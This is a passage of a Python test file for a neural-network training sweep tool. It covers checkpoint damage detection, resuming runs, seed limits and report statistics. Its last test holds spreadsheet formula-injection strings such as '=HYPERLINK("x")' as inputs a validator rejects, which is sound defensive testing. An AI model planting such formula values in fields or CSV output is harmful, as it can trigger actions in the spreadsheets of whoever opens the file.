    err = capsys.readouterr().err
    assert f"and {out / 'runs.csv'} records 1 run that this sweep leaves out (estimator=ste (seed 1)), which its " \
           "tables would lose: give its settings (estimator=ste) and seeds (0, 1) again" in err, err
    assert (out / "runs.csv").read_text() == rows
    assert main(argv) == 0  # given again: the sweep goes on and writes sweep.json again
    assert (out / "runs.csv").read_text().count("\n") == 3


def test_a_sweep_leaves_out_a_run_with_another_runs_last_pt(tmp_path, capsys):
    """(review chaos4 #1) A stopped sweep run whose last.pt was put back from another run: the sweep resumed it and
    reported the mix as the setting's result. Its last.pt's own last line differs from metrics.jsonl's: damaged."""
    from reste.checkpoint import load_checkpoint, save_checkpoint

    argv = ["sweep", "--grid", "estimator=ste", "--seeds", "0", "--epochs", "2", "--threads", "1", "--out",
            str(tmp_path / "s"), "--model", "digits_1w1a", "--no-report"]
    assert main(argv) == 0
    run = next((tmp_path / "s" / "runs").glob("ste-*/seed0"))
    first = (run / "metrics.jsonl").read_text().splitlines()[0]
    (run / "metrics.jsonl").write_text(first + "\n")  # stopped after epoch 1 ...
    ckpt = load_checkpoint(run / "last.pt")  # ... and another run's epoch-1 last.pt put back
    save_checkpoint({**ckpt, "epoch": 1, "metrics": {**ckpt["metrics"], "epoch": 1, "test_acc": 12.5}}, run / "last.pt")
    why = (f"{run / 'last.pt'} is not this run's: its epoch 1 scored test top-1 12.50%, where metrics.jsonl says "
           f"{json.loads(first)['test_acc']:.2f}% (a checkpoint put back from another run?); put this run's own back, "
           "or delete the folder to train the run again")
    left_out_as_damaged(argv, why, capsys)


def test_a_best_pt_that_is_not_the_best_epoch_is_said_not_mended(tmp_path, capsys):
    """(review chaos4 #2) A best.pt that holds another epoch than the run's best (another run's file, an older copy):
    the resume said nothing, and every rerun of the sweep said it was "mending its checkpoint files" and mended
    nothing. No resume can write it again where last.pt is not the best epoch: said once, and the run counts."""
    import shutil

    from reste.checkpoint import load_checkpoint, save_checkpoint

    argv = ["sweep", "--grid", "estimator=ste", "--seeds", "0", "--epochs", "2", "--threads", "1", "--out",
            str(tmp_path / "s"), "--model", "digits_1w1a", "--no-report"]
    assert main(argv) == 0
    run = next((tmp_path / "s" / "runs").glob("ste-*/seed0"))
    first = json.loads((run / "metrics.jsonl").read_text().splitlines()[0])
    last = load_checkpoint(run / "last.pt")  # the best epoch, as last.pt records it, made epoch 1 ...
    save_checkpoint({**last, "best_epoch": 1, "best_acc": first["test_acc"]}, run / "last.pt")
    shutil.copy(run / "last.pt", run / "best.pt")  # ... and best.pt a copy of epoch 2
    why = f"{run / 'best.pt'} holds epoch 2, not the run's best epoch 1"
    capsys.readouterr()
    for _ in range(2):
        assert main(argv) == 0
        out = capsys.readouterr().out
        assert "mending" not in out and f"already finished, skipped ({why}: the weights of its best epoch are lost" \
            in out, out
    assert main(["train", "--resume", str(run)]) == 0
    assert f"warning: {why} (another run's file, or an older copy?); the weights of epoch 1 are lost" in \
        capsys.readouterr().out


def test_a_runs_row_takes_its_best_epoch_first_of_a_tie_and_its_last_epochs_top5():
    """(review tests2 #9, #14) Every sweep of the tests trained one epoch, where the first is the last: the first
    epoch's top-5 as the final one passed, and so did the last of equal accuracies as the best (best.pt holds the
    first)."""
    from reste.experiments.report import _accuracy
    from reste.rundir import best_line

    lines = [{"epoch": 1, "test_acc": 90.0, "test_top5": 98.0}, {"epoch": 2, "test_acc": 95.0, "test_top5": 99.0},
             {"epoch": 3, "test_acc": 95.0, "test_top5": 99.5}, {"epoch": 4, "test_acc": 94.0, "test_top5": 99.7}]
    assert best_line(lines)["epoch"] == 2
    assert _accuracy(lines) == {"best_acc": 95.0, "best_epoch": 2, "final_acc": 94.0, "final_top5": 99.7}


def test_the_indicator_figures_curve_is_the_mean_over_seeds_of_equal_length():
    """(review tests2 #10) With one seed the mean is any statistic: the maximum passed, and so did a "mean" of runs of
    different lengths (zip cut them to the shortest)."""
    from reste.experiments.plots import _epoch_means

    runs = [{"metrics": [{"e": 1.0}, {"e": 3.0}]}, {"metrics": [{"e": 3.0}, {"e": 6.0}]}]
    assert _epoch_means(runs, "e") == [2.0, 4.5]
    assert _epoch_means([*runs, {"metrics": [{"e": 1.0}]}], "e") is None
    assert _epoch_means([{"metrics": [{"e": None}]}], "e") is None


def test_crossed_axes_that_train_one_network_twice_are_said(tmp_path):
    """(review user3, suggestion 3) --grid o_end=3,5 --grid o_schedule=constant,cosine: o_end=3 and o_end=5 under the
    constant schedule train the same network, under two keys and two rows; the sweep says so when it starts (and
    in its dry run). Settings that differ in what g and F read are not named."""
    from reste.experiments import run_sweep
    from reste.experiments.sweep import expand_grid, same_networks

    base = TrainConfig(dataset="digits", epochs=3, threads=1)
    grid = {"o_end": [3, 5], "o_schedule": ["constant", "cosine"]}
    assert same_networks(expand_grid(base, grid)) == [["o_end=3,o_schedule=constant", "o_end=5,o_schedule=constant"]]
    assert same_networks(expand_grid(base, {"o_end": [3, 5]})) == []
    assert same_networks(expand_grid(base, {"estimator": ["ste", "reste"]})) == []  # (other g, same start values)
    lines = []
    run_sweep(base, grid, [0], tmp_path / "s", log=lines.append, dry_run=True)
    assert lines[1] == ("sweep: note: o_end=3,o_schedule=constant and o_end=5,o_schedule=constant train the same "
                        "network (the same g and F at every epoch, and all else the same): their runs are the same, "
                        "seed for seed"), lines


def test_an_estimator_with_a_forward_of_its_own_is_not_judged_by_params_alone(isolated):
    """(review diff24, suggestion 4) Its forward may read an option params() does not give (here k): its settings
    are not called one network, nor is its axis refused as training one."""
    import reste
    from reste.experiments.sweep import expand_grid, same_networks

    class Shifted(reste.STE):
        name = "shifted"
        hyperparameters = (*reste.STE.hyperparameters, reste.Param("k", float, 0.0, "a shift", "[0, 1]"))

        def params(self):
            return {"clip": self.clip}

        def forward(self, x):
            return super().forward(x - self.k)

    reste.register_estimator(Shifted)
    settings = expand_grid(TrainConfig(dataset="digits", epochs=1, estimator="shifted"), {"k": [0.0, 0.5]})
    assert [s.label for s in settings] == ["k=0", "k=0.5"] and same_networks(settings) == []


def test_seeds_past_what_a_run_takes_are_refused_before_any_run():
    """(review fuzz1 #7) --seeds 99999999999999999999 passed the sweep's checks and its dry run; each run then
    failed, after its folder was made."""
    from reste.config import MAX_SEED
    from reste.experiments.sweep import parse_seeds

    assert parse_seeds(f"0,{MAX_SEED}") == [0, MAX_SEED]
    for text in (str(MAX_SEED + 1), "1,99999999999999999999"):
        with pytest.raises(UsageError, match=r"--seeds must be in \[0, 2\*\*63 - 1\], got"):
            parse_seeds(text)


def test_a_sweep_without_threads_resumes_a_run_with_its_recorded_count(tmp_path, monkeypatch):
    """(review exact1 #3) a sweep continued with another --jobs and no --threads resumed a stopped run with its
    worker's share of the cores, not the count the run recorded (`reste train --resume` keeps it: a CPU run's sums
    depend on it), and the run parted from the one it continued; --threads given is still the sweep's to set."""
    from reste import engine
    from reste.experiments import sweep as sw

    given: list[dict] = []
    monkeypatch.setattr(engine, "resume", lambda run_dir, free, **kw: given.append(free) or {"best_acc": 1.0})
    for threads in (None, 1):
        job = {"config": TrainConfig(dataset="digits", threads=threads).to_dict(), "run_dir": str(tmp_path / "r"),
               "resume": True}
        assert sw._execute(job)["status"] == "done"
    assert "threads" not in given[0] and given[1]["threads"] == 1
    assert given[0]["workers"] is None and "accumulate" in given[0]  # the other free settings as before


def test_a_run_whose_indicator_is_not_finite_is_left_out_of_its_settings_mean(sweep, tmp_path, capsys):
    """(review stats1 #1) one run's gradient stability of inf (or NaN: no epoch measured) made statistics.stdev
    raise in `reste report` and at a sweep's end: no table was written, now or by any later report. It is left out
    of its setting's mean, with a line that says so; the run's own row keeps the value."""
    out = tmp_path / "s"
    shutil.copytree(sweep[0], out)
    manifest = json.loads((out / "sweep.json").read_text())
    run = out / manifest["settings"][1]["runs"]["0"]  # estimator=reste
    lines = [json.loads(line) for line in (run / "metrics.jsonl").read_text().splitlines()]
    lines[0]["gradient_stability"] = float("inf")
    (run / "metrics.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines))
    for _ in range(2):  # and again, from the runs.csv the first report wrote
        assert main(["report", str(out), "--no-plots"]) == 0
        said = capsys.readouterr()
        assert ("report: estimator=reste seed 0: its gradient_stability is not finite (inf); left out of the "
                "setting's mean") in said.out + said.err, said
        rows = {r["setting"]: r for r in _read_csv(out / "results.csv")}
        assert rows["estimator=reste"]["gradient_stability_mean"] == "" and rows["estimator=reste"]["n"] == "1"
        assert rows["estimator=reste"]["estimating_error_mean"] != "" and rows["estimator=ste"][
            "gradient_stability_mean"] != ""
        assert {r["setting"]: r for r in _read_csv(out / "runs.csv")}["estimator=reste"]["gradient_stability"] == "inf"
    # (review diff27 #3) an epoch of which nothing was measured (NaN) is left out of the run's values: said too
    (out / "runs.csv").unlink()
    lines[0]["estimating_error"] = lines[0]["gradient_stability"] = float("nan")
    (run / "metrics.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines))
    assert main(["report", str(out), "--no-plots"]) == 0
    said = capsys.readouterr()
    assert ("report: estimator=reste seed 0: 1 epoch of which nothing was measured (every step skipped) left out of "
            "its indicators") in said.out + said.err, said


def test_a_grid_axis_is_any_option_name_and_nothing_else():
    """(review sec3 #7, diff28 #1) an axis names an option: a Unicode identifier too (a plugin's β), dotted or dashed;
    a formula or an empty name is no axis."""
    from reste.experiments.report import _axis_name

    for good in ("estimator", "o_end", "β", "estimator_options.t", "batch-size", "model_options.width",
                 "x" * 100):  # (review mut11 #17) 100 characters at most
        assert _axis_name(good), good
    for bad in ('=HYPERLINK("x")', "-A1", "+A1", "", "a b", "1x", "a..b", 3, "x" * 101):
        assert not _axis_name(bad), bad
